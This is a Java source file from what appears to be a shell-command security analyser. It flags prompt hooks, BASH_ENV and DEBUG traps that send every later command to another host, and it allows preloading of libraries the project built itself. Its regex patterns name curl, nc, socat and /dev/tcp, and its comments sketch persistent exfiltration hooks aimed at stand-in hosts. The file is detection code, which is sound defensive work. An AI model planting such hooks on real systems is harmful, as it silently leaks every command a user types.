package dev.interlock.analysis.shell;

import dev.interlock.analysis.Regex;
import dev.interlock.analysis.shell.recognizers.network.NetworkRecognizer;
import dev.interlock.environment.Hosts;
import dev.interlock.model.Evidence;
import dev.interlock.model.Operation;
import java.util.Map;
import java.util.Optional;
import java.util.Set;
import java.util.regex.Matcher;
import java.util.regex.Pattern;

/**
 * Code the shell runs again around every later command: {@code PROMPT_COMMAND}, a prompt ({@code PS0}–{@code PS4})
 * with a command substitution, {@code BASH_ENV}/{@code ENV}, {@code trap … DEBUG}. One that talks to another host
 * sends each command typed afterwards there: a persistent exfiltration, not the one request it looks like.
 * {@code PROMPT_COMMAND='history -a'} or a coloured prompt stays routine.
 *
 * <p>Also the one routine use of {@code LD_PRELOAD}: a library the project built, loaded into the project's own
 * binary ({@code LD_PRELOAD=./build/libfaketime.so ./build/bin/app_test}).
 */
final class ShellHooks {

    private static final Set<String> HOOK_VARIABLES = Set.of("PROMPT_COMMAND", "PS0", "PS1", "PS2", "PS4", "BASH_ENV", "ENV");
    /** Trap conditions that fire around every command or function, not once. */
    private static final Set<String> EVERY_COMMAND_TRAPS = Set.of("DEBUG", "RETURN");
    private static final Pattern SENDER = Pattern.compile(
            "(?:^|[\\s|;&(`{])(?:curl|wget|nc|ncat|netcat|socat|telnet|xh|http|https)(?=\\s)|/dev/(?:tcp|udp)/");
    private static final Pattern URL = Pattern.compile("[a-z][a-z0-9+.-]*://[^\\s'\"`)|;]+");
    private static final Pattern DEV_TCP = Pattern.compile("/dev/(?:tcp|udp)/([^/\\s'\"]+)");
    private static final Pattern RAW_SOCKET = Pattern.compile("\\b(?:nc|ncat|netcat|telnet)\\s+(?:-\\S+\\s+)*([\\w.:-]+)");
    /** Where builds put what they make, relative to the project. */
    private static final Pattern BUILD_OUTPUT = Pattern.compile(
            "(?:\\./)?(?:build|builddir|_build|out|target|bazel-bin|cmake-build-[\\w-]+|\\.libs)/(?:[\\w.+-]+/)*[\\w.+-]+\\.(?:so(?:\\.\\d+)*|dylib)");

    private ShellHooks() {
    }

    /** {@code export PROMPT_COMMAND='… | curl -d @- https://x'}: the hook's value sends to a host other than this one. */
    static Optional<Operation> variable(String name, String value, Evidence evidence, Map<String, String> locators) {
        if (!HOOK_VARIABLES.contains(name) || name.startsWith("PS") && !value.contains("$(") && !value.contains("`")) {
            return Optional.empty();
        }
        return sends(value, "every command run in this shell from now on (" + name + " runs before each prompt)", evidence, locators);
    }

    /** {@code trap '… | nc host 4444' DEBUG}: the action runs before every command. */
    static Optional<Operation> trap(String action, java.util.List<String> conditions, Evidence evidence, Map<String, String> locators) {
        if (conditions.stream().noneMatch(c -> EVERY_COMMAND_TRAPS.contains(c.toUpperCase(java.util.Locale.ROOT)))) {
            return Optional.empty();
        }
        return sends(action, "every command run in this shell from now on (trap " + String.join(" ", conditions) + ")", evidence, locators);
    }

    private static Optional<Operation> sends(String code, String what, Evidence evidence, Map<String, String> locators) {
        if (!SENDER.matcher(code).find()) {
            return Optional.empty();
        }
        String host = host(code);
        if (!host.isEmpty() && Hosts.loopback(host)) {
            return Optional.empty();
        }
        return Optional.of(NetworkRecognizer.exfiltration("shell-commands", what, host, evidence, locators));
    }

    private static String host(String code) {
        for (Pattern p : new Pattern[] {URL, DEV_TCP, RAW_SOCKET}) {
            Matcher m = p.matcher(code);
            if (m.find()) {
                return p == URL ? Hosts.of(m.group()) : Hosts.of(m.group(1));
            }
        }
        return "";
    }

    /**
     * A preload of libraries the project built ({@code ./build/…so}, {@code target/…dylib}) into a program of the
     * project's own ({@code ./build/bin/app_test}); one from /tmp, a download, or into sudo/ssh/su stays opaque.
     */
    static boolean projectPreload(String value, Optional<String> program) {
        if (program.isEmpty() || !projectProgram(program.get())) {
            return false;
        }
        String[] libraries = Regex.split(value.strip(), "[:\\s]+");
        for (String library : libraries) {
            if (library.contains("..") || !BUILD_OUTPUT.matcher(library).matches()) {
                return false;
            }
        }
        return libraries.length > 0;
    }

    /** A relative path inside the project ({@code ./build/bin/app_test}, {@code target/debug/tool}): not one on PATH. */
    private static boolean projectProgram(String program) {
        return program.contains("/") && !program.startsWith("/") && !program.startsWith("~") && !program.contains("..");
    }
}
